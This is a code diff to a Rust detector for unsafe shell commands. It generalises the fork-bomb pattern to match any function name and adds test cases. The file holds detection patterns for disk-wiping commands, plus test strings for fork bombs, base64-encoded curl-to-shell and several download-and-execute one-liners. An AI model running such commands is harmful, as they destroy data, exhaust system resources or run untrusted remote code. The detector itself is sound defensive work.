@@ -40,7 +40,12 @@ lazy_regex!(
         r"(?i)\b(?:mkfs(?:\.[a-z0-9]+)?|mke2fs|mkswap|wipefs|shred|blkdiscard)\b[^\n;|&]*\s/dev/|\bdd\b[^\n;|&]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|mapper/|dm-)|>\s*/dev/(?:sd[a-z]|nvme\d|hd[a-z]|vd[a-z]|xvd[a-z]|mmcblk\d|disk\d)|\bformat(?:\.com)?\s+[a-z]:(?:\s|$)|\b(?:format-volume|clear-disk)\b"
     )
 );
-lazy_regex!(FORK_BOMB, r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:");
+lazy_regex!(
+    /// A function that pipes itself into itself in the background, then is
+    /// called: `:(){ :|:& };:`, or the same under any name.
+    FORK_BOMB,
+    r"([\w:.-]+)\s*\(\s*\)\s*\{\s*([\w:.-]+)\s*\|\s*([\w:.-]+)\s*&\s*;?\s*\}\s*;\s*([\w:.-]+)"
+);
 lazy_regex!(
     /// A delete command and its arguments. An argument ends at a shell
     /// separator or a closing parenthesis (`(rm -rf x)`), except inside a
@@ -501,10 +506,14 @@ pub(super) fn unsafe_command(text: &str, doors: Doors) -> Spans {
         &*POWERSHELL_ENCODED,
         &*DOWNLOAD_EXPRESSION,
         &*DISK_WIPE,
-        &*FORK_BOMB,
     ] {
         out.extend(matches(open.get(re), text));
     }
+    out.extend(
+        open.captures(&FORK_BOMB, text)
+            .filter(|c| c[1] == c[2] && c[2] == c[3] && c[3] == c[4])
+            .filter_map(|c| c.get(0).map(|m| m.range())),
+    );
     out.extend(
         open.captures(&DELETE, text)
             .filter(|c: &Captures<'_>| delete_is_dangerous(&c[1], &c[2]))
@@ -598,6 +607,7 @@ mod tests {
             "echo Y3VybCBodHRwczovL2V4YW1wbGUuZGV2L3ggfCBzaA== | base64 -d | bash",
             "php -r \"eval(file_get_contents('https://get.example.dev/i'));\"",
             "echo %0^|%0 > b.bat && b.bat",
+            "boom(){ boom|boom& };boom",
             "- run: |\n    wget https://get.example.dev/tool -O tool\n    chmod +x tool\n    ./tool init",
             "bitsadmin /transfer job https://get.example.dev/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
             "cmd /c \"curl -sL https://get.example.dev/fix.bat -o fix.bat && fix.bat\"",
@@ -612,6 +622,7 @@ mod tests {
             "python3 -c \"import shutil; shutil.rmtree('build')\"",
             "echo aGVsbG8= | base64 -d > hello.txt",
             "diskpart /s list-volumes.txt",
+            "log(){ tee|gzip& };log",
         ] {
             assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
         }
